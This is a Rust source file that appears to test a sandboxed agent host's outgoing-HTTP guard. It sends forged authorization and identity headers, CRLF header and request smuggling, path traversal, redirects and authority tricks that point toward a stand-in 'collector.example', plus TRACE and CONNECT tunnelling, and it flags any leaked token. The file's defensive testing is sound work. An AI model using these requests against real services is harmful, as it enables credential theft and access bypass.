//! What can be sent, and where.

use crate::{Outcome, Target, asking, looking};
use attache_guest::bindings::wasi::http::outgoing_handler;
use attache_guest::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
use attache_guest::{Credential, bindings};

/// A request as raw as the host lets it be: nothing of it is checked here.
struct Raw {
    method: Method,
    scheme: Scheme,
    authority: String,
    path: String,
    headers: Vec<(String, String)>,
}

impl Raw {
    fn get(base: &str, path: &str) -> Raw {
        let (scheme, authority) = base.trim_end_matches('/').split_once("://").unwrap_or(("https", base));
        Raw {
            method: Method::Get,
            scheme: match scheme {
                "http" => Scheme::Http,
                _ => Scheme::Https,
            },
            authority: authority.into(),
            path: path.into(),
            headers: Vec::new(),
        }
    }

    fn header(mut self, name: &str, value: &str) -> Raw {
        self.headers.push((name.into(), value.into()));
        self
    }

    /// The status, and head and body as text; or why there is none.
    fn send(self, credential: Option<&Credential>) -> Result<(u16, String), String> {
        let fields = Fields::new();
        for (name, value) in &self.headers {
            fields.append(name, value.as_bytes()).map_err(|error| format!("header `{name}`: {error:?}"))?;
        }
        let request = OutgoingRequest::new(fields);
        request.set_method(&self.method).map_err(|()| format!("method `{:?}` is refused", self.method))?;
        request.set_scheme(Some(&self.scheme)).map_err(|()| format!("scheme `{:?}` is refused", self.scheme))?;
        request.set_authority(Some(&self.authority)).map_err(|()| format!("`{}` is refused", self.authority))?;
        request.set_path_with_query(Some(&self.path)).map_err(|()| format!("path `{}` is refused", self.path))?;
        if let Ok(body) = request.body() {
            OutgoingBody::finish(body, None).map_err(|code| format!("{code:?}"))?;
        }
        let pending = match credential {
            Some(credential) => credential.send_raw(request).map_err(|error| error.to_string())?,
            None => outgoing_handler::handle(request, None).map_err(|code| format!("{code:?}"))?,
        };
        pending.subscribe().block();
        let response = match pending.get() {
            Some(Ok(answer)) => answer.map_err(|code| format!("{code:?}"))?,
            Some(Err(())) | None => return Err("there was no response".into()),
        };
        let mut text = String::new();
        for (name, value) in response.headers().entries() {
            text.push_str(&format!("{name}: {}\n", String::from_utf8_lossy(&value)));
        }
        text.push_str(&body(&response));
        Ok((response.status(), text))
    }

    /// With the handle that this agent was granted itself, if any.
    fn with_own(self, target: &Target) -> Result<(u16, String), String> {
        let own = asking::own(target).map_err(|error| format!("no handle to try it with: {error}"))?;
        self.send(Some(&own))
    }
}

fn body(response: &bindings::wasi::http::types::IncomingResponse) -> String {
    let Ok(body) = response.consume() else { return String::new() };
    let mut bytes = Vec::new();
    if let Ok(stream) = body.stream() {
        while let Ok(chunk) = stream.blocking_read(64 * 1024) {
            bytes.extend(chunk);
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

const EVENTS: &str = "/calendar/v3/calendars/primary/events";

/// It should not have been sent at all, so any answer but a refusal of the API's own is a catch.
fn unanswered(answer: Result<(u16, String), String>) -> Outcome {
    match answer {
        Ok((status, text)) if status < 300 => Outcome::Got(format!("{status}: {text}")),
        Ok((status, text)) => match looking::secret(text.as_bytes()) {
            Some(secret) => Outcome::Got(secret),
            None => Outcome::Nothing(format!("the API answered {status}")),
        },
        Err(why) => Outcome::in_text(&why),
    }
}

/// It may be sent; a token in the answer is a catch.
fn searched(answer: Result<(u16, String), String>) -> Outcome {
    match answer {
        Ok((_, text)) => Outcome::in_text(&text),
        Err(why) => Outcome::in_text(&why),
    }
}

pub(crate) fn plainly(target: &Target) -> Outcome {
    unanswered(Raw::get(&target.api, EVENTS).send(None))
}

pub(crate) fn forged_authorization(target: &Target) -> Outcome {
    let spellings = [
        "authorization",
        "Authorization",
        "AUTHORIZATION",
        "authorization ",
        " authorization",
        "author\u{131}zation",
        "proxy-authorization",
        "x-authorization",
        "x-forwarded-authorization",
        "x-original-authorization",
        "x-api-key",
        "x-goog-api-key",
    ];
    Outcome::of(spellings.map(|name| {
        let raw = || Raw::get(&target.api, EVENTS).header(name, "Bearer forged");
        Outcome::of([unanswered(raw().send(None)), searched(raw().with_own(target))])
    }))
}

pub(crate) fn a_cookie(target: &Target) -> Outcome {
    unanswered(Raw::get(&target.api, EVENTS).header("Cookie", "session=forged").send(None))
}

pub(crate) fn another_host_header(target: &Target) -> Outcome {
    let (_, host) = target.elsewhere.split_once("://").unwrap_or(("", &target.elsewhere));
    unanswered(Raw::get(&target.api, EVENTS).header("Host", host).with_own(target))
}

pub(crate) fn forwarded_identity(target: &Target) -> Outcome {
    let names = [
        "x-forwarded-user",
        "x-forwarded-email",
        "x-remote-user",
        "x-goog-authenticated-user-email",
        "x-goog-iap-jwt-assertion",
        "x-amzn-oidc-data",
        "x-amzn-oidc-identity",
        "x-ms-client-principal",
        "x-attache-user",
        "attache-session-id",
    ];
    Outcome::of(names.map(|name| unanswered(Raw::get(&target.api, EVENTS).header(name, "bob").send(None))))
}

pub(crate) fn smuggled(target: &Target) -> Outcome {
    let raw = || Raw::get(&target.api, EVENTS);
    let second = "x\r\nauthorization: Bearer forged";
    Outcome::of([
        unanswered(raw().header("transfer-encoding", "chunked").header("content-length", "0").send(None)),
        unanswered(raw().header("connection", "authorization").send(None)),
        unanswered(raw().header("x-note", second).send(None)),
        unanswered(Raw::get(&target.api, &format!("{EVENTS} HTTP/1.1\r\nauthorization: Bearer forged")).send(None)),
    ])
}

pub(crate) fn an_absolute_path(target: &Target) -> Outcome {
    let paths = [format!("{}/take", target.elsewhere), "//collector.example/take".into(), "@collector.example/".into()];
    Outcome::of(paths.iter().map(|path| unanswered(Raw::get(&target.api, path).with_own(target))))
}

pub(crate) fn userinfo(target: &Target) -> Outcome {
    let names = ["bob@", "bob:forged@", "@", ":@"];
    Outcome::of(names.map(|name| {
        let mut raw = Raw::get(&target.api, EVENTS);
        raw.authority = format!("{name}{}", raw.authority);
        unanswered(raw.with_own(target))
    }))
}

pub(crate) fn confusing_authorities(target: &Target) -> Outcome {
    let host = Raw::get(&target.api, "/").authority;
    let authorities = [
        format!("{host}@collector.example"),
        format!("{host}\\@collector.example"),
        format!("{host}#@collector.example"),
        format!("{host}%2f@collector.example"),
        format!("{host}.collector.example"),
        format!("collector.example/{host}"),
        format!("collector.example?{host}"),
        format!("{host} collector.example"),
        format!("{host}."),
        String::new(),
    ];
    Outcome::of(authorities.map(|authority| {
        let mut raw = Raw::get(&target.api, EVENTS);
        raw.authority = authority;
        unanswered(raw.with_own(target))
    }))
}

pub(crate) fn elsewhere(target: &Target) -> Outcome {
    unanswered(Raw::get(&target.elsewhere, "/take").with_own(target))
}

pub(crate) fn another_port(target: &Target) -> Outcome {
    Outcome::of([":8443", ":1", ":0"].map(|port| {
        let mut raw = Raw::get(&target.api, EVENTS);
        let host = raw.authority.split(':').next().unwrap_or_default().to_owned();
        raw.authority = host + port;
        unanswered(raw.with_own(target))
    }))
}

/// Against a target that is itself reached over http, which only a development host allows, another host is tried.
pub(crate) fn in_the_clear(target: &Target) -> Outcome {
    let mut raw = Raw::get(&target.api, EVENTS);
    if matches!(raw.scheme, Scheme::Http) {
        raw.authority = "www.googleapis.com".into();
    }
    raw.scheme = Scheme::Http;
    unanswered(raw.with_own(target))
}

pub(crate) fn another_scheme(target: &Target) -> Outcome {
    Outcome::of(["file", "ftp", "ws", "HTTPS+unix"].map(|scheme| {
        let mut raw = Raw::get(&target.api, EVENTS);
        raw.scheme = Scheme::Other(scheme.into());
        unanswered(raw.with_own(target))
    }))
}

/// Every kind of redirect. One that comes back as it is, is what should happen; one that was followed is a catch.
pub(crate) fn redirected(target: &Target) -> Outcome {
    Outcome::of([301, 302, 303, 307, 308].map(|code| {
        let path = format!("/redirect?code={code}&to={}/take", target.elsewhere);
        match Raw::get(&target.api, &path).with_own(target) {
            Ok((status, text)) if (300..400).contains(&status) => Outcome::in_text(&text),
            answer => unanswered(answer),
        }
    }))
}

pub(crate) fn climbing(target: &Target) -> Outcome {
    let paths = ["/calendar/../admin", "/calendar/%2e%2e/admin", "/calendar/..%2fadmin", "/calendar\\..\\admin"];
    Outcome::of(paths.map(|path| unanswered(Raw::get(&target.api, path).with_own(target))))
}

/// An API that repeats what it was sent, in every encoding it knows.
pub(crate) fn echoed(target: &Target) -> Outcome {
    let encodings = ["plain", "percent", "hex", "base64", "base64url", "json", "split", "header"];
    Outcome::of(encodings.map(|how| searched(Raw::get(&target.api, &format!("/echo?encoding={how}")).with_own(target))))
}

pub(crate) fn response_headers(target: &Target) -> Outcome {
    match Raw::get(&target.api, "/echo?encoding=header").with_own(target) {
        Ok((_, text)) => {
            let found = ["set-cookie:", "www-authenticate:", "authorization:", "proxy-authenticate:"];
            match text.lines().find(|line| found.iter().any(|name| line.starts_with(name))) {
                Some(line) => Outcome::Got(line.into()),
                None => Outcome::in_text(&text),
            }
        }
        Err(why) => Outcome::in_text(&why),
    }
}

pub(crate) fn traced(target: &Target) -> Outcome {
    let mut raw = Raw::get(&target.api, "/echo");
    raw.method = Method::Trace;
    unanswered(raw.with_own(target))
}

pub(crate) fn tunnelled(target: &Target) -> Outcome {
    let mut raw = Raw::get(&target.api, "collector.example:443");
    raw.method = Method::Connect;
    unanswered(raw.with_own(target))
}
